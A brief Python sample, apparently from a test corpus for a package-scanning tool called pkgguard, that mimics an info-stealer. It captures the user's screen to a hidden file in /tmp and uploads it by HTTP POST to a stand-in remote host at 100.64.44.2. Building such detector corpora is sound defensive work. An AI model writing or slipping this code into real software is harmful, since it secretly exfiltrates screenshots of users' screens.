# pkgguard corpus 061 (screenshot), modelled on [stealer-profile]; inert, never run.
import mss
import requests

with mss.mss() as sct:
    path = sct.shot(output="/tmp/.m.png")
requests.post("http://100.64.44.2:8000/up", files={"f": open(path, "rb")})
